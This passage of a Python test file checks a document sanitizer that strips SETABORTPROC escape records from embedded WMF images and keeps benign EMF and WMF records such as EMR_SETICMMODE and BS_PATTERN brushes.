    assert ("metafile_records_removed", "Pictures/drawing.wmf: SETABORTPROC escapes x1, escapes x2") in {
        (f.code, f.detail) for f in report.findings}
    output = tmp_path / "out" / report.outputs[0].path
    assert media_of(output) == {"Pictures/drawing.wmf": rewritten(rewrite_wmf(wmf(benign_wmf_records()), PIXELS)).data}
    assert inspect_file(output, tmp_path).clean


def test_what_office_writes_and_names_no_file_stays() -> None:
    """EMR_SETICMMODE (Office writes it; it names no profile) and a WMF pattern brush of style
    BS_PATTERN (its target is a DIB all the same, [MS-WMF] 2.3.4.8) are kept without a finding."""
    result = rewritten(rewrite_emf(emf([rec(98, struct.pack("<I", 2)), *benign_emf_records()]), PIXELS))
    assert result.removed == {} and 98 in emf_types(result.data)
    info, bits = dib(4, 4, TILE)
    pattern = wrec(0x0142, struct.pack("<HH", 3, 1) + info + bits)  # BS_PATTERN: the usage is RGB whatever it says
    result = rewritten(rewrite_wmf(wmf([pattern, wmf_select(0), wrec(0x041B, struct.pack("<hhhh", 60, 90, 10, 10))]),
                                   PIXELS))
    assert result.removed == {} and wmf_functions(result.data) == [0x0142, 0x012D, 0x041B, 0]
    assert result.data[22 + 18 + 6:22 + 18 + 10] == struct.pack("<HH", 3, 0) and wmf_problems(result.data) == []
